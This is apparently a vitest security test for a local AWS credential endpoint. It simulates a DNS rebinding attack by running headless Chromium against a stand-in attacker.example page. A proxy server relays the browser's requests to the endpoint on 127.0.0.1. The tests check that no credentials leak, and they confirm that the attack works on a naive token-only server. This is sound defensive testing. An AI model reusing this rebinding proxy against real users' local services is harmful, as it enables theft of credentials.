// A page of an attacker in Chromium, whose name comes to mean this machine (DNS rebinding). In: the page of attacker.html, which
// is told the port and even the token. Out: what it could read. T-10.
// The page is at 127.0.0.2 and at the port of the endpoint, so both are one origin to the browser. Its server then passes bytes
// on to 127.0.0.1, as if the name had another address now: to the endpoint that is the same.

import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { connect, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { CheckedIn, role } from '../cli/checked-in.ts'
import { MovedClock } from '../cli/moved-clock.ts'
import { Serving } from '../cli/serving.ts'
import { builtEnvironment, peer } from '../peers/peer.ts'

interface Result {
  readonly what: string
  readonly text: string
}

// Two hours on, and nobody looks after the session: whatever asked for one would have a new one got.
const clock = new MovedClock()
let there: CheckedIn
let serving: Serving
beforeAll(async () => {
  there = await CheckedIn.make([], clock.now)
  const environment = clock.environment(false)
  serving = await Serving.start(there.home, ['serve', 'prod', '--role-arn', role], { environment })
  clock.set(120)
})
afterAll(async () => {
  await serving?.stop()
  await there?.remove()
  clock.remove()
})

describe('T-10: a page whose name is rebound to this machine', () => {
  it('reads nothing of the endpoint, even with the token, and causes no call', async () => {
    const calls = (): number => there.sts.accepted() + there.sts.refused()
    const before = calls()
    const { results, forwarded } = await attack(serving.port, serving.token)
    expect(results.length).toBe(192)
    expect(forwarded).toBeGreaterThan(20)
    expect(results.filter(({ text }) => /ASIA|SecretAccessKey|hardkey_endpoint/.test(text))).toEqual([])
    expect(calls()).toBe(before)
    expect(serving.stderr).toBe('')
    const metrics = await (await serving.get('/metrics')).text()
    expect(metrics).not.toContain('status="200"')
    expect(metrics).toMatch(/status="403"\} \d{2,}/)
    expect([(await serving.get()).status, calls()]).toEqual([200, before + 1])
  })

  it('reads a server that looks at the token alone: the attack is a real one', async () => {
    const naive = createHttpServer((request, response) => {
      response.writeHead(request.headers.authorization === 'known' ? 200 : 401)
      response.end(request.headers.authorization === 'known' ? 'ASIA-CANARY' : '')
    })
    await once(naive.listen(0, '127.0.0.1'), 'listening')
    const address = naive.address()
    const { results } = await attack(typeof address === 'object' ? (address?.port ?? 0) : 0, 'known')
    naive.closeAllConnections()
    naive.close()
    const read = results.filter(({ text }) => text.includes('ASIA-CANARY')).map(({ what }) => what)
    expect(read).toContain('fetch with the token of /')
    expect(read).toContain('XMLHttpRequest of /')
  })
})

/** Opens the page in a browser, and waits for its report. */
async function attack(
  port: number,
  token: string,
): Promise<{ readonly results: Result[]; readonly forwarded: number }> {
  const { command } = await peer('chromium')
  const profile = mkdtempSync(join(tmpdir(), 'hardkey-browser-'))
  const attacker = await attackerServer(port)
  const told = `port=${port}&token=${token}&report=${attacker.reportPort}`
  const browser = startBrowser(command, profile, `http://attacker.example:${port}/page?${told}`)
  try {
    return { results: await attacker.report, forwarded: attacker.forwarded() }
  } finally {
    browser.kill('SIGKILL')
    await once(browser, 'close')
    attacker.close()
    // Its helpers end a moment later, and write until then.
    await vi.waitFor(() => rmSync(profile, { recursive: true, force: true }), { timeout: 30_000, interval: 200 })
  }
}

function startBrowser(command: string, profile: string, url: string): ChildProcess {
  const quiet = ['--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync']
  const names =
    'MAP attacker.example 127.0.0.2, MAP rebound.example 127.0.0.1, MAP localhost 127.0.0.1, MAP * ~NOTFOUND'
  const words = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-dev-shm-usage', ...quiet]
  return spawn(
    command,
    [...words, `--user-data-dir=${profile}`, `--host-resolver-rules=${names}, EXCLUDE 127.0.0.1`, url],
    {
      env: builtEnvironment({ HOME: profile, XDG_CONFIG_HOME: profile, XDG_CACHE_HOME: profile }),
      stdio: 'ignore',
    },
  )
}

interface Attacker {
  readonly reportPort: number
  readonly report: Promise<Result[]>
  readonly forwarded: () => number
  close(): void
}

/** Serves the page; what else comes to its port goes to the endpoint, byte by byte. Takes the report at another port. */
async function attackerServer(port: number): Promise<Attacker> {
  const page = readFileSync(join(import.meta.dirname, 'attacker.html'))
  let forwarded = 0
  let done: (results: Result[]) => void
  const report = new Promise<Result[]>((resolve) => {
    done = resolve
  })
  const own = createHttpServer((request, response) => {
    response.setHeader('connection', 'close')
    if (request.method === 'GET') return response.setHeader('content-type', 'text/html').end(page)
    const pieces: Buffer[] = []
    request.on('data', (piece: Buffer) => pieces.push(piece))
    return request.on('end', () => {
      response.end()
      done(JSON.parse(Buffer.concat(pieces).toString()) as Result[])
    })
  })
  const server = createServer((near) => {
    near.on('error', () => undefined)
    near.once('data', (first: Buffer) => {
      const isPage = /^GET \/(?:page|favicon)/.test(first.toString('latin1'))
      if (!isPage) forwarded += 1
      near.pause()
      near.unshift(first)
      const far = connect({ port: isPage ? reportPort : port, host: isPage ? '127.0.0.2' : '127.0.0.1' })
      far.on('error', () => near.destroy()).on('close', () => near.destroySoon())
      near.on('close', () => far.destroy())
      near.pipe(far).pipe(near)
    })
  })
  await once(own.listen(0, '127.0.0.2'), 'listening')
  await once(server.listen(port, '127.0.0.2'), 'listening')
  const address = own.address()
  const reportPort = typeof address === 'object' ? (address?.port ?? 0) : 0
  const close = (): void => {
    own.closeAllConnections()
    own.close()
    server.close()
  }
  return { reportPort, report, forwarded: () => forwarded, close }
}
